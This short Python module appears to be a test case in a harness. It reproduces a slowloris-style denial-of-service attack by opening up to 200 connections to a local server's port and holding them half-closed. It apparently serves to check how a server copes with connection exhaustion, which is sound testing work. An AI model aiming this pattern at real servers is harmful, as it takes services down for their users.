"""A server opens more connections than anybody needs, and says nothing on them.

Source: slowloris, R. Hansen (2009).
Seen: what it was given is still reached afterwards.
"""

import contextlib
import socket

from escaping import HELD, Escaping


class Attack(Escaping):
    def escape(self):
        port = int(self.stage.named.rstrip("/").rpartition(":")[2])
        held = []
        with contextlib.suppress(OSError):
            for _ in range(200):
                held.append(socket.create_connection(("localhost", port), timeout=0.5))
        for one in held:
            with one, contextlib.suppress(OSError):
                one.shutdown(socket.SHUT_WR)
                one.recv(1)  # until the other side has ended, too


SEEN = HELD
